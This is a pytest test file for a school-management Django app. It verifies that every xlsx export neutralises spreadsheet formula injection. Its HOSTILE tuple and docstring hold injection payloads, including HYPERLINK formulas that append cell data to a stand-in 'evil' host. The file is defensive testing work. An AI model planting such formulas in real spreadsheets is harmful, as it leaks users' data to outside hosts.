"""No xlsx the app offers carries a formula, whatever people typed (issue 10, defect 4).

A ledger note ``=HYPERLINK("http://evil/?"&G2,"详情")`` or a student's name ``=…`` must reach
the principal's download as the text it is, never as a live formula. Every workbook goes
through ``schoolops.sheets.writer``; this file checks the writer and, end to end, every
download:

- **Discovered, not listed.** Every route of the permission matrix (``tests/*/matrix.py``) is
  requested once as a post allowed to open it; each one that answers with the xlsx content
  type is a download. A new export is covered the day its route enters the matrix, and the
  test fails if it finds none. Every export kind of the sheet engine is written too.
- **Hostile records.** After the route's own ``build``, the school gets a record of each kind
  the downloads show (``_ensure_records``), then every CharField and TextField of every
  record of the project's apps is overwritten with text that a spreadsheet would run
  (``HOSTILE``). Fields with choices and the import record's internal keys are left alone:
  nobody types them.
- **Checked three ways.** No cell that openpyxl reads has ``data_type == "f"``, no sheet's XML
  has an ``<f>`` element, and the hostile text is in the workbook exactly as stored, read the
  way Excel reads it (calamine, which decodes OOXML's ``_x000D_`` escape as Excel does).
"""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path
from typing import Any

from django.apps import apps
from django.db import models, transaction
from django.urls import reverse
from django.utils import timezone

import openpyxl
import pytest
from python_calamine import CalamineWorkbook

from schoolops.sheets import engine
from schoolops.sheets.http import XLSX_CONTENT_TYPE
from schoolops.sheets.writer import Heading, Sheet, workbook_bytes, write_xlsx
from tests.safety.exports import kind_options
from tests.safety.matrix import OK, Route
from tests.safety.routes import all_routes, client_for, describe, send

HOSTILE = (
    '=HYPERLINK("http://x/?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
)
ROOT = Path(__file__).resolve().parents[2]
# Keys the app writes itself (an export kind's name, a stored file's path): nobody types them.
NOT_TYPED = {
    ("schoolops", "importrecord", "kind"),
    ("schoolops", "importrecord", "stored_file"),
    ("schoolops", "exportrecord", "kind"),
    ("schoolops", "exportrecord", "stored_file"),
    ("schoolops", "exportrecord", "language"),
    ("schoolops", "exportrecord", "page"),
}
# The posts tried first: the principal's office sees the most.
ACTOR_ORDER = (
    "principal",
    "academic",
    "office",
    "grade_head",
    "homeroom",
    "teacher",
    "psychologist",
    "outsider",
    "anonymous",
)
FORMULA_ELEMENT = re.compile(rb"<(?:\w+:)?f[\s>/]")
# Downloads of a file written earlier (a background export, by its own matrix build, blank).
STORED_FILES = {"schoolops:export_download"}


# The writer on its own.


def _sheet_xml(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {
            name: archive.read(name)
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and name.endswith(".xml")
        }


def _formula_cells(content: bytes) -> list[str]:
    """Every formula in the workbook: openpyxl's view and the raw XML's."""
    found = [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in openpyxl.load_workbook(io.BytesIO(content)).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    found += [
        f"<f> in {name}" for name, xml in _sheet_xml(content).items() if FORMULA_ELEMENT.search(xml)
    ]
    return found


def _texts(content: bytes) -> set[str]:
    """Every text cell as Excel reads it (calamine decodes OOXML's ``_xHHHH_`` like Excel)."""
    with io.BytesIO(content) as buffer:
        book = CalamineWorkbook.from_filelike(buffer)
        return {
            value
            for name in book.sheet_names
            for row in book.get_sheet_by_name(name).to_python()
            for value in row
            if isinstance(value, str)
        }


def test_the_writer_keeps_formula_like_text_as_text_exactly():
    typed = [*HOSTILE, "- 作业拖欠", "a\r\nb", "x\x0by", "_x0041_ stays", " =1", "普通文字"]
    content = workbook_bytes(Sheet("备注", headers=["备注"], rows=[[value] for value in typed]))

    assert _formula_cells(content) == []
    cells = list(openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2))
    assert all(row[0].data_type == "s" for row in cells)
    assert [row[0].quotePrefix for row in cells] == [
        True,  # = + - @ tab CR: Excel's "stored as text" flag, so editing it keeps it text
        True,
        True,
        True,
        True,
        True,
        True,
        False,
        False,
        False,
        False,
        False,
    ]
    assert set(typed) <= _texts(content)  # no apostrophe added, nothing stripped


def test_the_writer_keeps_numbers_dates_and_text_columns():
    day = dt.date(2026, 11, 10)
    moment = timezone.make_aware(dt.datetime(2026, 11, 10, 8, 30))
    buffer = io.BytesIO()
    write_xlsx(
        buffer,
        ["学籍号", "分数", "日期", "时间", "是否"],
        [["0702601001", Decimal("88.5"), day, moment, True], [None, -3, None, None, False]],
        title="成绩:期中/考试?",
        text_columns={0},
        widths=[14, 8],
    )
    sheet = openpyxl.load_workbook(buffer).active
    assert sheet.title == "成绩期中考试"  # characters Excel refuses in a sheet's name dropped
    assert sheet["A1"].font.bold and sheet["A1"].number_format == "General"
    assert (sheet["A2"].value, sheet["A2"].number_format) == ("0702601001", "@")
    assert sheet["A3"].number_format == "@"  # a blank id cell is text too
    assert (sheet["B2"].value, sheet["B3"].value) == (88.5, -3)
    assert sheet["C2"].value == dt.datetime(2026, 11, 10)
    assert sheet["D2"].value == dt.datetime(2026, 11, 10, 8, 30)  # local time, no zone
    assert (sheet["E2"].value, sheet["E3"].value) == (True, False)
    assert sheet.column_dimensions["A"].width == 14


def test_the_writer_writes_several_sheets_with_headings_and_wrapped_text():
    content = workbook_bytes(
        Sheet("记录", rows=[Heading(["学情会商记录"], size=14), ["日期", "2026-11-17"]], wrap=True),
        Sheet("记录", headers=["姓名"], rows=[["=1+1"]]),
    )
    book = openpyxl.load_workbook(io.BytesIO(content))
    first, second = book.worksheets
    assert (first.title, second.title) == ("记录", "记录1")
    assert first["A1"].font.bold and first["A1"].font.size == 14
    assert not first["A2"].font.bold and first["B2"].alignment.wrap_text
    assert (second["A2"].value, second["A2"].data_type) == ("=1+1", "s")


# Every download of the app, with hostile records.


def _actor(route: Route) -> str | None:
    for actor in ACTOR_ORDER:
        wanted = route.expect[actor]
        if wanted == OK or (isinstance(wanted, tuple) and OK in wanted):
            return actor
    return None


def _request(client, school, route: Route, hostile: bool) -> tuple[Any, set[str]]:
    """The route's build, hostile records if asked, one request; all rolled back."""
    with transaction.atomic():
        call = route.call(school)
        stored = set()
        if hostile:
            _ensure_records(school)
            stored = _fill_hostile()
        response = send(client, route.method, reverse(route.name, kwargs=call.kwargs), call)
        transaction.set_rollback(True)
    return response, stored


def _is_xlsx(response) -> bool:
    return response.get("Content-Type", "").split(";")[0].strip() == XLSX_CONTENT_TYPE


def _ensure_records(school) -> None:
    """A record of each kind the downloads show, where the route's build made none."""
    from consult.models import Case, LedgerProfile, Level, Meeting, MeetingStudent
    from groups.models import MonthClose, StudyGroup
    from groups.services import close_month
    from mentors.models import MentorEvaluation, Pairing
    from schoolops.models import Exam, ExamResult, ReadLog, Student
    from tests.consult.helpers import FULL
    from tests.groups.helpers import add_students, item, make_groups

    today = timezone.localdate()
    students = list(Student.objects.filter(school_class=school.class_a).order_by("student_no"))
    if len(students) < len(HOSTILE):
        students += add_students(school.class_a, len(HOSTILE) - len(students), seed=9)
    if not StudyGroup.objects.exists():
        item()
        make_groups(school.class_a, school.term, students, per_group=3)
    last_month = (today.replace(day=1) - dt.timedelta(days=1)).replace(day=1)
    if not MonthClose.objects.exists():
        close_month(last_month, school.academic)
    for student in students:
        LedgerProfile.objects.get_or_create(student=student, term=school.term, defaults=FULL)
    if not Meeting.objects.exists():
        meeting = Meeting.objects.create(
            level=Level.CLASS,
            kind=Meeting.Kind.REGULAR,
            term=school.term,
            date=today,
            school_class=school.class_a,
            chair=school.homeroom,
            created_by=school.homeroom,
        )
        MeetingStudent.objects.create(meeting=meeting, student=school.student_a)
    _ensure_questionnaire(school)
    if not Case.objects.exists():
        Case.objects.create(
            student=school.student_a,
            term=school.term,
            school_class=school.class_a,
            author=school.homeroom,
            created_on=today,
            title="案例",
            nominated=True,
        )
    for student in students:
        if not Pairing.objects.filter(student=student, academic_year=school.year).exists():
            Pairing.objects.create(
                student=student,
                mentor=school.teacher,
                academic_year=school.year,
                school_class=school.class_a,
                choice_rank=1,
                started_on=school.term.start_date,
            )
    MentorEvaluation.objects.get_or_create(term=school.term, mentor=school.teacher)
    if not ReadLog.objects.exists():
        ReadLog.objects.bulk_create(
            ReadLog(user=school.principal.user, student=student, what="ledger", path="/")
            for student in students
        )
    if not ExamResult.objects.exists():
        exam = Exam.objects.create(name="期中考试", date=dt.date(2026, 11, 10))
        ExamResult.objects.create(
            student=school.student_a, exam=exam, subject=school.maths, score=Decimal("88.5")
        )


def _ensure_questionnaire(school) -> None:
    """A questionnaire of class_a with one answer sheet (its export lists the questions)."""
    from consult import services
    from consult.models import Questionnaire

    if Questionnaire.objects.exists():
        return
    questionnaire = services.create_questionnaire(
        by=school.homeroom,
        term=school.term,
        title="问卷",
        audience="parents",
        reach="class",
        school_class=school.class_a,
        deadline=timezone.now() + dt.timedelta(days=7),
        questions=[
            services.QuestionData("single", "题目", ["甲", "乙"]),
            services.QuestionData("text", "建议", []),
        ],
    )
    single, text = questionnaire.questions.order_by("order")
    services.submit_answers(
        questionnaire.links.get(), {str(single.pk): 1, str(text.pk): HOSTILE[0]}
    )


def _text_fields(model) -> list[models.Field]:
    return [
        field
        for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        and not field.choices
        and (model._meta.app_label, model._meta.model_name, field.name) not in NOT_TYPED
    ]


def _unique_names(model) -> set[str]:
    names = {f.name for f in model._meta.concrete_fields if f.unique}
    for together in model._meta.unique_together:
        names.update(together)
    for constraint in model._meta.constraints:
        names.update(getattr(constraint, "fields", ()) or ())
    return names


def _project_models() -> list[type[models.Model]]:
    """The models of the project's own apps (a new app's too), without the history copies."""
    return [
        model
        for config in apps.get_app_configs()
        if Path(config.path).resolve().is_relative_to(ROOT)
        and ".venv" not in Path(config.path).parts
        for model in config.get_models()
        if not model.__name__.startswith("Historical")
    ]


def _fill_hostile() -> set[str]:
    """Every typed text field of every record gets hostile text; returns the values stored."""
    stored: set[str] = set()
    for model in _project_models():
        fields = _text_fields(model)
        if not fields:
            continue
        unique = _unique_names(model)
        for row, pk in enumerate(
            model._default_manager.order_by("pk").values_list("pk", flat=True)
        ):
            values = {}
            for index, field in enumerate(fields):
                value = HOSTILE[(row + index) % len(HOSTILE)]
                limit = field.max_length or len(value) + 10
                suffix = f"#{row}" if field.name in unique else ""
                value = value[: limit - len(suffix)] + suffix
                values[field.name] = value
                stored.add(value)
            model._default_manager.filter(pk=pk).update(**values)
    return stored


def _blank_template(content: bytes) -> bool:
    sheets = openpyxl.load_workbook(io.BytesIO(content)).worksheets
    return all(
        value is None
        for sheet in sheets
        for row in sheet.iter_rows(min_row=2, values_only=True)
        for value in row
    )


def _problems(
    name: str, content: bytes, stored: set[str], seen: set[str], template: bool = False
) -> list[str]:
    """What is wrong with a workbook written from hostile records (a template is blank)."""
    problems = [f"{name}: formula {where}" for where in _formula_cells(content)]
    found = _texts(content) & stored
    seen.update(found)
    if not found and not (template and _blank_template(content)):
        problems.append(
            f"{name}: none of the hostile text is in the workbook as it was stored (no records? "
            "give its matrix Route a build that makes what it lists, or add to _ensure_records)"
        )
    return problems


def _is_template(route: Route) -> bool:
    """A blank import template: the only workbook that is not an export kind."""
    return route.name.endswith("_import_template")


def test_every_download_has_no_formula_and_keeps_hostile_text_verbatim(school, today):
    clients = {actor: client_for(school, actor) for actor in ACTOR_ORDER}  # logged in once
    downloads = []
    crashed = []
    unserved = []
    for route in all_routes():
        actor = _actor(route)
        if actor is None:
            continue
        response, _stored = _request(clients[actor], school, route, hostile=False)
        if response.status_code >= 500:
            crashed.append(f"{route.key} as {actor}: {describe(response)}")
        elif _is_xlsx(response):
            downloads.append((route, actor))
            # Data leaves only through the one export path (sheet_response marks its kind).
            if not (getattr(response, "export_kind", None) or _is_template(route)):
                unserved.append(route.key)
    assert not crashed, "cannot tell whether these are downloads:\n  " + "\n  ".join(crashed)
    assert downloads, "no route of the matrix answered with an xlsx: the discovery is broken"
    assert not unserved, "downloads not served by sheet_response:\n  " + "\n  ".join(unserved)

    problems: list[str] = []
    seen: set[str] = set()
    for route, actor in downloads:
        response, stored = _request(clients[actor], school, route, hostile=True)
        if response.status_code != 200 or not _is_xlsx(response):
            problems.append(
                f"{route.key} as {actor} with hostile records: {response.status_code} {describe(response)}"
            )
            continue
        template = _is_template(route) or route.name in STORED_FILES
        problems += _problems(route.key, response.content, stored, seen, template)
    assert not problems, "\n".join(problems)
    assert set(HOSTILE) <= seen, f"never seen verbatim: {set(HOSTILE) - seen!r}"


@pytest.mark.parametrize("kind", sorted(engine.export_kinds()))
def test_every_export_kind_has_no_formula_and_keeps_hostile_text(kind, school, today):
    with transaction.atomic():
        _ensure_records(school)
        stored = _fill_hostile()
        buffer = io.BytesIO()
        engine.export_file(kind, buffer, **kind_options(kind, school))
        transaction.set_rollback(True)
    assert _problems(kind, buffer.getvalue(), stored, set()) == []
